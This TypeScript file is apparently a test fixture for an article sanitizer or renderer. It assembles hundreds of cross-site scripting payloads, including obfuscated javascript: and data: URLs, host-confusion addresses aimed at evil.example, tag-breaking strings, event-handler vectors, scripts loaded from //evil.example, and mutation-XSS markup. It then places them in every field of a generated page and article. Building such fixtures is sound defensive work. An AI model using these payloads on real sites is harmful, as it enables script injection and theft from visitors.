// Attacks by family: each list is one idea, and each idea meets every other that it can be combined with.

const SCHEMES = [
  "javascript:alert(1)",
  "javascript://gazette.example/%0aalert(1)",
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
  "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "data:;,<script>alert(1)</script>",
  "data:,alert(1)",
  "data:image/png,image/svg+xml,<svg onload=alert(1)>",
  "blob:https://gazette.example/1",
  "file:///etc/passwd",
  "view-source:https://gazette.example/",
  "feed:javascript:alert(1)",
  "jar:https://gazette.example/a.jar!/x",
  "intent://gazette.example/#Intent;scheme=javascript;end",
  "about:blank",
  "ws://gazette.example/",
  "filesystem:https://gazette.example/temporary/x",
  "tel:1",
  "ms-its:x.chm::/y",
];

const SPELLINGS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => address.replace(/[a-z]/g, (c, at: number) => (at % 2 ? c : c.toUpperCase())),
  (address) => ` ${address}`,
  (address) => `\n\t${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u001f\u000c${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\ufeff${address}`,
  (address) => `\u200b${address}`,
  (address) => address.replace(/^(..)/, "$1\t"),
  (address) => address.replace(/^(..)/, "$1\n"),
  (address) => address.replace(/^(..)/, "$1\r\n"),
  (address) => address.replace(/^(..)/, "$1\0"),
  (address) => address.replace(/^(..)/, "$1\u00ad"),
  (address) => address.replace(":", "\t:"),
  (address) => address.replace(":", ":\n"),
  (address) => address.replace(":", "&colon;"),
  (address) => address.replace(":", "&#58;"),
  (address) => address.replace(/^./, (c) => `&#${c.charCodeAt(0)};`),
  (address) => address.replace(/^./, (c) => `&#x${c.charCodeAt(0).toString(16)}`),
  (address) => address.replace(/^./, (c) => `&#0000${c.charCodeAt(0)}`),
  (address) => address.replace(/^(..)/, "$1&Tab;"),
  (address) => address.replace(/^(..)/, "$1&NewLine;"),
  (address) => address.replace(":", "%3a"),
  (address) => address.replace(":", "\uff1a"),
  (address) => address.replace(/^./, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  (address) => `\\\\${address}`,
  (address) => `//${address}`,
  (address) => `x,${address}`,
  (address) => `https://gazette.example/a.jpg 1x, ${address} 2x`,
  (address) => `url(${address})`,
  (address) => `"${address}`,
  (address) => `${address}" onerror="alert(1)`,
];

const HOSTS = [
  "\\\\evil.example/a",
  "/\\evil.example/a",
  "\\/evil.example/a",
  "/\t/evil.example/a",
  "///evil.example/a",
  "https:evil.example",
  "https:/evil.example",
  "https://gazette.example@evil.example/",
  "https://gazette.example%2eevil.example/",
  "https://gаzette.example/",
  "https://youtube.com.evil.example/embed/abcdefghijk",
  "https://www.youtube.com@evil.example/embed/abcdefghijk",
  "https://[::1]/",
  "https://",
  "https://%/",
];

/** Addresses that no link and no picture may have as they stand. */
export const ADDRESSES: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => SPELLINGS.map((spell) => spell(scheme))),
  ...HOSTS,
];

const BREAKS = [
  "",
  '"',
  '">',
  "'>",
  "`>",
  '\\">',
  "</title>",
  "</script>",
  "</style>",
  "</textarea>",
  "</noscript>",
  "</xmp>",
  "</template>",
  "-->",
  "--!>",
  "]]>",
  "</svg>",
  "</math>",
  "</pre></code>",
  "</table></figure></article>",
  "\0",
  "&quot;&gt;",
  "&lt;/script&gt;",
  "\\u003c/script\\u003e",
  "%22%3e",
  "\u2028",
];
const VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<script/xss>alert(1)</script >",
  "<script\n>alert(1)</script\t>",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src='x'onerror='alert(1)'",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert&lpar;1)</script>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "<form action=javascript:alert(1)><button>x",
  "<button formaction=javascript:alert(1) form=x>x",
  "<isindex action=javascript:alert(1) type=image>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import'//evil.example/x.css';*{background:url(//evil.example/)}</style>",
  '<p style="behavior:url(x.htc);width:expression(alert(1))">',
  "<x onpointerenter=alert(1) style=display:block>",
  "<x contenteditable onbeforeinput=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<dialog open onclose=alert(1)><form method=dialog>",
  "<portal src=//evil.example/>",
  "<plaintext><script>alert(1)</script>",
];

// What a parser changes when it reads its own output again.
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
  '<math><annotation-xml encoding="text/html"><style></style><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
  '<svg><desc><noscript><img src="</noscript><img src=x onerror=alert(1)>"></desc>',
  "<table><tr><td><math><mtext></td></tr></table><style><img src=x onerror=alert(1)></style>",
  "<select><option><style></option></select><svg></style><img src=x onerror=alert(1)></svg>",
  '<p id="<!--"></p><img src=x onerror=alert(1)>-->',
  "<a><a><svg><style></a><img src=x onerror=alert(1)></style>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<!---><img src=x onerror=alert(1)>-->",
  "<! ><img src=x onerror=alert(1)>",
  "<?xml-stylesheet ><img src=x onerror=alert(1)>?>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
  "\u003cimg src=x onerror=alert(1)\u003e",
  "＜img src=x onerror=alert(1)＞",
  "<p/title=</p><img/src=x onerror=alert(1)>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "$\\href{javascript:alert(1)}{x}$ \\(\\unicode{<img src=x onerror=alert(1)>}\\)",
];

/** Texts that are to stay text, wherever they stand. */
export const TEXTS: readonly string[] = [
  ...VECTORS.flatMap((vector, i) =>
    // Each vector behind a third of the breaks, in turn: all breaks meet all kinds of vectors.
    BREAKS.filter((_, k) => (k + i) % 3 === 0).map((before) => before + vector),
  ),
  ...MUTATIONS,
];

const escaped = (text: string): string =>
  text.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");
// In a page an address may be written with the references that it has.
const quoted = (text: string): string => text.replace(/"/g, "&quot;").replace(/</g, "&lt;");
const LINE = "The river rose by two fingers on Tuesday, which the miller called a good beginning.";

/** A page with a text and an address at every place that comes into an article; as markup, too, where it is `raw`. */
export function pageWith(text: string, address: string, raw: boolean): string {
  const [t, u] = [raw ? text : escaped(text), quoted(address)];
  const a = escaped(text);
  const data = JSON.stringify({
    "@type": "NewsArticle",
    headline: text,
    description: text,
    author: [{ "@type": "Person", name: `Ada ${text}`, url: address, image: address }],
    image: [{ url: address, caption: text, width: text }],
    url: address,
    mainEntityOfPage: address,
    articleSection: text,
    keywords: [text],
    publisher: { name: text },
    datePublished: text,
    video: { embedUrl: address, contentUrl: address, thumbnailUrl: address, name: text },
  }).replaceAll("</", "<\\/");
  return `<!doctype html><html lang="${a}"><head><base href="${u}"><title>${a}</title><meta property="og:image" content="${u}"><meta property="og:url" content="${u}"><link rel=canonical href="${u}"><link rel=next href="${u}">
    <meta name=author content="${a}"><meta name=description content="${a}"><script type="application/ld+json">${data}</script></head><body><article><h1>${t} Rain</h1><p class=byline>By Ada ${t}</p><time datetime="${a}">${t}</time>
    <p>${LINE} ${t} And nobody minded it <a href="${u}" title="${a}" id="${a}">at all</a>.</p><h2 id="${a}">${t}</h2><p>${LINE}</p>
    <figure><img src="${u}" alt="${a}" width="${a}" height=400><img src="/r.jpg" alt="${a}" srcset="${u} 1x, /r2.jpg 2x, ${u}"><figcaption>${t} Photo: ${t}</figcaption></figure>
    <picture><source srcset="${u} 800w, ${u}"><img data-src="${u}" src="${u}" width=600 height=400></picture><video poster="${u}" src="${u}" title="${a}"><source src="${u}"></video>
    <ul><li>${t}<li value="${a}"><code class="language-${a}">${t}</code></ul><ol start="${a}" type="${a}"><li>${t}</ol><pre><code class="language-${a}">${a}</code></pre>
    <table><caption>${t}</caption><tr><th colspan="${a}" rowspan="${a}" scope="${a}">${t}<td>${t}<td>1<tr><td>2<td>3<td>4</table><dl><dt>${t}<dd>${t}</dl><details><summary>${t}</summary><p>${LINE}</p></details>
    <blockquote cite="${u}"><p>${LINE} ${t}</p></blockquote><blockquote class="twitter-tweet"><p>${t}</p><a href="https://twitter.com/a/status/1234567890">${t}</a></blockquote><iframe src="${u}" title="${a}"></iframe>
    <div class="admonition note"><p class="admonition-title">${t}</p><p>${LINE}</p></div><math display=block><mi>${t}</mi><mtext href="${u}">${t}</mtext><annotation encoding="application/x-tex">${t}</annotation></math><p>\\(${t}\\) x<sup><a href="#fn${a}">1</a></sup></p>
    <p>${LINE} ${LINE}</p><ol><li id="fn${a}">${t}</ol></article></body></html>`;
}

/** The same text and address in an article as a file might hold it. */
export function articleWith(t: string, u: string): object {
  const text = { type: "text", value: t };
  const link = { type: "link", url: u, children: [text] };
  const inline = [
    text,
    link,
    { type: "inlineCode", value: t },
    { type: "inlineMath", value: t, mathml: t },
    { type: "inlineMath", value: t, mathml: `<math><mi>${t}</mi></math>` },
    { type: "footnoteReference", identifier: t, label: t },
  ];
  const image = {
    src: u,
    alt: t,
    caption: t,
    credit: t,
    width: 1,
    height: 1,
    candidates: [
      { src: u, width: 2 },
      { src: u, density: 2 },
    ],
  };
  const paragraph = { type: "paragraph", children: inline };
  return {
    title: t,
    subtitle: t,
    description: t,
    kicker: t,
    section: t,
    siteName: t,
    language: t,
    direction: "rtl",
    published: t,
    modified: t,
    tags: [t],
    url: u,
    canonicalUrl: u,
    authors: [{ name: t, url: u, image: u, role: t, kind: "person" }],
    leadImage: image,
    notes: [{ kind: "bio", children: [paragraph] }],
    body: [
      paragraph,
      { type: "heading", depth: 2, children: inline },
      { type: "blockquote", cite: u, children: [paragraph] },
      {
        type: "list",
        ordered: true,
        start: 2,
        style: "a",
        items: [{ value: 3, children: [paragraph] }],
      },
      { type: "code", lang: t, value: t },
      { type: "math", value: t, mathml: `<math><mtext>${t}</mtext></math>` },
      { type: "math", value: t, mathml: t },
      { type: "figure", images: [image, {}], caption: t, credit: t },
      {
        type: "embed",
        provider: t,
        url: u,
        id: t,
        title: t,
        text: t,
        caption: t,
        poster: u,
        sources: [{ src: u, type: t }],
      },
      { type: "embed", provider: "youtube", url: u, id: t, title: t },
      {
        type: "table",
        caption: t,
        rows: [
          {
            cells: [
              { header: true, colSpan: 2, rowSpan: 2, children: inline, blocks: [paragraph] },
            ],
          },
        ],
      },
      {
        type: "liveEntry",
        time: t,
        title: t,
        authors: [{ name: t, url: u }],
        children: [paragraph],
      },
      { type: "definitionList", items: [{ term: inline, children: [paragraph] }] },
      { type: "callout", kind: t, title: t, children: [paragraph] },
      { type: "details", summary: t, children: [paragraph] },
      { type: "footnoteDefinition", identifier: t, children: [paragraph] },
    ],
  };
}

/** Every text once and every address at least once, in pairs. */
export function pairs(): readonly { readonly text: string; readonly address: string }[] {
  const most = Math.max(TEXTS.length, ADDRESSES.length);
  return Array.from({ length: most }, (_, i) => ({
    text: TEXTS[i % TEXTS.length] ?? "",
    address: ADDRESSES[i % ADDRESSES.length] ?? "",
  }));
}
